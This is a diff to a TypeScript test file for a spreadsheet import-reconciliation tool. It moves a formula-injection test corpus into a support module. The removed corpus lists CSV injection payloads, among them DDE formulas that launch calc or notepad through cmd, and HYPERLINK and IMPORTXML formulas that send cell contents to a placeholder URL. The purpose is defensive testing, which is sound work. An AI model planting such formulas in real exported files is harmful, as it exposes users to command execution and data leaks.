@@ -8,42 +8,10 @@ import * as os from "os";
 import * as path from "path";
 import ExcelJS from "exceljs";
 import { reconcileImports } from "../src/cli/run";
-import { Cell } from "../src/domain/cells";
-import { ImportFile } from "../src/domain/importer";
 import { buildWorkbook } from "../src/xlsx/writer";
 import { Values, recalculate } from "./support/libreoffice";
 import { checkWorkbook, summaryOrder } from "./support/workbook-check";
-
-export const INJECTION_CORPUS: readonly string[] = [
-  "=1+1",
-  "=HYPERLINK(\"http://example.com/?\"&A1,\"click\")",
-  "=cmd|' /C calc'!A0",
-  "+1+1",
-  "+cmd|' /C notepad'!A0",
-  "-1+1",
-  "-2",
-  "@SUM(1,1)",
-  " =1+1",
-  "  +1",
-  "\t=1+1",
-  "\n=1+1",
-  "\r\n@SUM(A1)",
-  "=",
-  "'=1+1",
-  "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")",
-  "=DDE(\"cmd\";\"/C calc\";\"x\")",
-];
-
-function exportWith(payloads: readonly string[], account: string): ImportFile[] {
-  const header: Cell[] = ["Subscription ID", "Subscription", "Quantity", "Status", "Reseller", "Friendly name"];
-  const rows: Cell[][] = payloads.map((p, i) => [p, i % 2 ? p : "Office 365 E3", i % 3 ? "5" : p, i % 4 ? "Active" : p, p, p]);
-  return [
-    { path: `from/${account}/Contoso.csv`, role: "from", account, kind: "subscriptions", grid: [header, ...rows] },
-    { path: `from/${account}/=1+1.csv`, role: "from", account, kind: "subscriptions", grid: [header, ["x1", "=SUM(1)", "1", "Active", "", ""]] },
-    { path: "to/Contoso.csv", role: "to", account: "New", kind: "subscriptions", grid: [header, ["n1", "Office 365 E3", "5", "Active", "", ""]] },
-    { path: "offer-map.csv", role: "from", account: "", kind: "offerMap", grid: [["Old offer", "New offer"], ["=1+1", "@SUM(1)"]] },
-  ];
-}
+import { INJECTION_CORPUS, exportWith } from "./support/injection";
 
 describe("formula injection", () => {
   let dir: string;
